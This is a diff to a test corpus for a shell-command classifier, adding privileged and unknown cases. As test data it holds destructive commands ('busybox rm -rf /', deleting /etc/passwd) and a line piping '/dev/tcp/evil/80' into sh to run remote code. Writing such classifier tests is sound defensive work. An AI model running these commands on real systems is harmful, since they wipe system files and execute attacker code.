@@ -284,6 +284,8 @@ const PRIVILEGED: Case[] = [
   { line: 'rm -r -f /etc', class: 'privileged', written: ['/etc'] },
   { line: 'cp -Z src /etc/x', class: 'privileged', written: ['/etc/x'] },
   { line: 'apt-get -q install nginx', class: 'privileged' },
+  { line: 'pushd /etc && rm -f passwd', class: 'privileged', written: ['/etc/passwd'] },
+  { line: 'busybox rm -rf /', class: 'privileged', commands: ['busybox', 'rm'] },
 ];
 
 const UNKNOWN: Case[] = [
@@ -343,6 +345,7 @@ const UNKNOWN: Case[] = [
   { line: 'sudo\\ reboot', class: 'unknown' },
   { line: 'x=1 >f', class: 'unknown', parseError: true },
   { line: 'cat < /dev/tcp/evil/80 | sh', class: 'unknown', pipeline: true },
+  { line: 'pushd /tmp; popd; rm -f x', class: 'unknown', reason: /directory known only when it runs/ },
 ];
 
 const CORPUS: Case[] = [...READS, ...WRITES, ...PRIVILEGED, ...UNKNOWN];
